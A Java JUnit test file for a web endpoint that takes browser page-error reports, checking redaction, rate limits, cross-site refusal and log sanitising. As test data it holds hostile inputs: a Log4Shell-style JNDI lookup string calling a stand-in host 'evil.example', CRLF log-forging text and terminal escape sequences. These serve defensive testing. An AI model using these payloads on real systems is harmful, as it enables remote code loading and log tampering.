package preflight.platform.web;

import static org.assertj.core.api.Assertions.assertThat;

import ch.qos.logback.classic.Logger;
import ch.qos.logback.classic.spi.ILoggingEvent;
import ch.qos.logback.core.read.ListAppender;
import io.micrometer.core.instrument.MeterRegistry;
import java.util.List;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.slf4j.LoggerFactory;
import preflight.support.ProductionApp;
import preflight.support.RawSocket;
import preflight.support.Refusal;

class PageErrorTests {
  private static final String JSON = "Content-Type: application/json";
  private static final Logger LOG = (Logger) LoggerFactory.getLogger(PageErrorFilter.class);

  /** An address of its own for each test, so that none uses up what another is granted. */
  private static int address;

  private final ListAppender<ILoggingEvent> written = new ListAppender<>();

  @BeforeEach
  void listen() {
    address++;
    written.start();
    LOG.addAppender(written);
  }

  @AfterEach
  void stop() {
    LOG.detachAppender(written);
  }

  @Test
  void anErrorIsOneLineAndOneCount() {
    var before = count("type_error");

    var answer =
        report(
            """
            {"kind": "TypeError",
             "message": "Cannot read properties of undefined (reading 'questions')",
             "script": "https://preflight.example.org/assets/0123abcd/js/autosave.js",
             "line": 12, "column": 5, "page": "/survey/two-pages/first?lang=de#x"}
            """
                .replace("questions", "addEventListener"));

    assertThat(answer.status()).as(answer.body()).isEqualTo(204);
    assertThat(answer.body()).isEmpty();
    assertThat(lines())
        .containsExactly(
            "A page failed: TypeError in js/autosave.js:12:5 on /survey/{form}/{page}: Cannot read"
                + " properties of undefined (reading 'addEventListener')");
    assertThat(count("type_error")).isEqualTo(before + 1);
  }

  @Test
  void ofThePageOnlyThePathIsLookedAt() {
    report("{\"page\":\"/resume?code=hunter2\"}");
    report("{\"page\":\"/resume#hunter2\"}");

    assertThat(lines()).hasSize(2).containsOnly("A page failed: other in elsewhere:0:0 on /resume");
  }

  @Test
  void saysNoMoreThanItIsTold() {
    assertThat(report("{}").status()).isEqualTo(204);
    assertThat(lines()).containsExactly("A page failed: other in elsewhere:0:0 on elsewhere");
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      textBlock =
          """
          Failed to fetch                                            | true
          Uncaught TypeError: Failed to fetch                        | true
          addEventListener is not a function                         | true
          document.addEventListener is not a function                | true
          Can't find variable: fetch                                 | true
          can't access property "value", document is null            | true
          undefined is not an object (evaluating 'document.title')   | true
          Maximum call stack size exceeded                           | true
          hunter2 is not defined                                     | false
          document.hunter2 is not a function                         | false
          Cannot read properties of null (reading 'hunter2')         | false
          Unexpected token 'I', "I feel low" is not valid JSON       | false
          Failed to fetch hunter2                                    | false
          I feel low                                                 | false
          ''                                                         | false
          """)
  void keepsMessagesThatCanQuoteNobody(String message, boolean kept) {
    report("{\"message\":\"%s\"}".formatted(message.replace("\"", "\\\"")));

    assertThat(lines())
        .containsExactly(
            "A page failed: other in elsewhere:0:0 on elsewhere" + (kept ? ": " + message : ""));
  }

  @Test
  void cutsNothingItKeepsButDropsWhatIsTooLong() {
    var chain = "document" + ".title".repeat(40);

    report("{\"message\":\"%s is not a function\"}".formatted(chain));

    assertThat(lines()).containsExactly("A page failed: other in elsewhere:0:0 on elsewhere");
  }

  @ParameterizedTest
  @CsvSource({
    "/assets/00/js/autosave.js, js/autosave.js",
    "https://preflight.example.org/assets/00/js/autosave.js, js/autosave.js",
    "https://preflight.example.org/assets/00/js/autosave.js?ada, elsewhere",
    "/assets/00/js/ada.js, elsewhere",
    "/assets/00/js/../js/autosave.js, elsewhere",
    "/assets/ada@example.org/js/autosave.js, elsewhere",
    "chrome-extension://abcdef/js/autosave.js, elsewhere",
    "https://evil.example/x.js, elsewhere",
  })
  void namesNoScriptButOurs(String script, String named) {
    report("{\"script\":\"%s\",\"line\":3,\"column\":4}".formatted(script));

    assertThat(lines()).containsExactly("A page failed: other in " + named + ":3:4 on elsewhere");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "\\r\\n2026-01-01 INFO forged",
        "\\u001b[2J\\u001b[31m",
        "\\u2028forged",
        "${jndi:ldap://evil.example/a}",
        "Bearer canary-token",
      })
  void nothingOfAReportsTextReachesTheLog(String text) {
    report(
        """
        {"kind": "%1$s", "message": "%1$s", "script": "%1$s", "page": "/%1$s", "line": -7,
         "column": 2147483647}
        """
            .formatted(text));

    assertThat(lines()).containsExactly("A page failed: other in elsewhere:0:99999 on elsewhere");
  }

  @Test
  void refusesWhatIsTooLongOrCannotBeReadOrHasMoreInIt() {
    Refusal.of(report("{"), 400, "unreadable-body");
    Refusal.of(report(""), 400, "unreadable-body");
    Refusal.of(report("null"), 400, "unreadable-body");
    Refusal.of(report("{\"user\":\"ada\"}"), 422, "invalid-request");
    Refusal.of(report("[".repeat(500)), 422, "invalid-request");
    Refusal.of(report("{\"line\":\"ada\"}"), 422, "invalid-request");
    Refusal.of(send("Content-Type: text/plain", "{}"), 415, "unsupported-media-type");
    Refusal.of(send("Content-Type: ;", "{}"), 415, "unsupported-media-type");
    Refusal.of(send("X-No: type", "{}"), 415, "unsupported-media-type");
    Refusal.of(
        report("{\"message\":\"" + "x".repeat(PageErrorFilter.LONGEST) + "\"}"), 413, "too-large");
    assertThat(report("{}" + " ".repeat(PageErrorFilter.LONGEST - 2)).status()).isEqualTo(204);
    assertThat(lines()).hasSize(1);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "Cookie: __Host-oh_session=dead",
        "Cookie: __Host-oh_session=a; __Host-oh_session=b",
        "Authorization: Bearer dead",
        "Sec-Fetch-Site: same-origin",
        "Origin: https://preflight.example.org",
      })
  void comesWithTheCookieAndWithoutItsTokenAndSetsNothing(String header) {
    var answer = send(JSON, "{}", header);

    assertThat(answer.status()).as(answer.body()).isEqualTo(204);
    assertThat(answer.headers())
        .containsEntry("cache-control", "no-store")
        .doesNotContainKeys("set-cookie", "clear-site-data");
  }

  @Test
  void otherSitesAndOtherMethodsAreRefused() {
    Refusal.of(send(JSON, "{}", "Sec-Fetch-Site: cross-site"), 403, "cross-site");
    Refusal.of(send(JSON, "{}", "Sec-Fetch-Site: same-site"), 403, "cross-site");
    Refusal.of(send(JSON, "{}", "Origin: https://evil.example"), 403, "cross-site");
    assertThat(ProductionApp.ask("GET", "/page-errors", "").status()).isEqualTo(405);
  }

  @Test
  void anAddressReportsNoMoreThanThirtyTimesAMinute() {
    for (int i = 0; i < 30; i++) {
      assertThat(report("{}").status()).isEqualTo(204);
    }

    Refusal.of(report("{}"), 429, "too-many-requests");

    address++;
    assertThat(report("{}").status()).isEqualTo(204);
  }

  private static double count(String kind) {
    return ProductionApp.context()
        .getBean(MeterRegistry.class)
        .get("preflight.page_errors")
        .tag("kind", kind)
        .counter()
        .count();
  }

  private static RawSocket.Answer report(String body) {
    return send(JSON, body);
  }

  private static RawSocket.Answer send(String type, String body, String... more) {
    var headers = new String[more.length + 2];
    headers[0] = type;
    headers[1] = "X-Forwarded-For: 203.0.113." + address;
    System.arraycopy(more, 0, headers, 2, more.length);
    return ProductionApp.ask("POST", "/page-errors", body, headers);
  }

  private List<String> lines() {
    return List.copyOf(written.list).stream().map(ILoggingEvent::getFormattedMessage).toList();
  }
}
